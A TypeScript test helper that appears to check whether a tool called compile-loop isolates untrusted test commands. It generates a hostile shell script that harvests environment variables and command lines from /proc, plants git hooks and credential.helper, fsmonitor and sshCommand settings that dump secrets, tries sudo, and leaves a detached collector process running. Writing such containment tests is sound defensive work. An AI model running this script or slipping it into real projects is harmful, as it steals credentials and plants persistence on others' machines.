/**
 * A test command written by an attacker who has read compile-loop's source:
 * it collects every environment and command line it can see in /proc, plants
 * hooks and git configuration that would run inside compile-loop's own git
 * commands, tries sudo and writing into .git/, and leaves a process in a new
 * session that keeps collecting from /proc for 15 s. Then it runs the real
 * tests, so a fix can still pass.
 */
import { spawnSync } from "node:child_process";
import { chmod, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";

export const PLANTED_HOOKS = ["pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction", "post-checkout"] as const;

export interface Evidence {
  dir: string;
  /** The hostile command line: run it, then `realCommand`. */
  command(realCommand: string): string;
  /** Everything the hostile code wrote, by file name. */
  read(): Promise<Record<string, string>>;
  /** Last time the leftover process was alive, in ms since the epoch; undefined if it never ran. */
  lastHeartbeatMs(): Promise<number | undefined>;
  /** Kills the leftover (where compile-loop could not) and removes the directory. */
  remove(): Promise<void>;
}

export async function createEvidence(): Promise<Evidence> {
  // Writable by the test user too: the hostile code runs as whoever compile-loop chose.
  const dir = await mkdtemp(path.join(tmpdir(), "compile-loop-evidence-"));
  await chmod(dir, 0o1777);
  const e = JSON.stringify(dir);
  const collect = `collect() { for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; echo; done; for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$f" 2>/dev/null; echo; done; }`;
  const hooks = PLANTED_HOOKS.map(
    (hook) => `printf '#!/bin/sh\\nenv >> %s/hook-${hook}.txt\\n' ${e} > .git/hooks/${hook} 2>>${e}/denied.txt && chmod +x .git/hooks/${hook} && echo ${hook} >> ${e}/planted.txt`,
  );
  const script = [
    collect,
    `collect >> ${e}/proc-first.txt`,
    ...hooks,
    `git config core.fsmonitor "env >> ${dir}/fsmonitor.txt; false" 2>>${e}/denied.txt && echo fsmonitor >> ${e}/planted.txt`,
    `git config core.sshCommand "env >> ${dir}/ssh.txt; ssh" 2>>${e}/denied.txt && echo sshCommand >> ${e}/planted.txt`,
    `git config credential.helper "!env >> ${dir}/credential.txt; true" 2>>${e}/denied.txt && echo credential.helper >> ${e}/planted.txt`,
    `if sudo -n true 2>>${e}/denied.txt; then echo sudo-worked >> ${e}/sudo.txt; fi`,
    `if echo planted > .git/planted-by-test 2>>${e}/denied.txt; then echo git-dir-writable >> ${e}/git-write.txt; fi`,
    // What real tests do: write build output into the working tree.
    `mkdir -p test-output && date > test-output/created-by-tests.txt || echo tree-not-writable >> ${e}/tree.txt`,
    `export -f collect`,
    `setsid bash -c 'echo $$ > ${dir}/leftover.pid; end=$((SECONDS+15)); while [ $SECONDS -lt $end ]; do collect >> ${dir}/proc-leftover.txt; date +%s%3N > ${dir}/heartbeat; sleep 0.1; done' </dev/null >/dev/null 2>&1 &`,
    // Give the leftover time to start before the real tests end this command.
    `for i in $(seq 50); do [ -s ${e}/heartbeat ] && break; sleep 0.05; done`,
  ].join("\n");
  const scriptFile = path.join(dir, "hostile.sh");
  await writeFile(scriptFile, `${script}\n`, { mode: 0o755 });
  return {
    dir,
    command: (realCommand) => `bash ${JSON.stringify(scriptFile)}; ${realCommand}`,
    read: async () => {
      const out: Record<string, string> = {};
      for (const name of await readdir(dir)) out[name] = await readFile(path.join(dir, name), "utf8").catch(() => "");
      return out;
    },
    lastHeartbeatMs: async () => {
      const text = (await readFile(path.join(dir, "heartbeat"), "utf8").catch(() => "")).trim();
      return text === "" ? undefined : Number(text);
    },
    remove: async () => {
      const pid = Number((await readFile(path.join(dir, "leftover.pid"), "utf8").catch(() => "")).trim());
      if (Number.isInteger(pid) && pid > 0) spawnSync("kill", ["-KILL", String(pid)]);
      await rm(dir, { recursive: true, force: true });
    },
  };
}

/** The secret and the forms in which it could leak (raw, base64 of itself and of the header actions/checkout uses). */
export function secretForms(secret: string): string[] {
  return [secret, Buffer.from(secret).toString("base64"), Buffer.from(`x-access-token:${secret}`).toString("base64")];
}
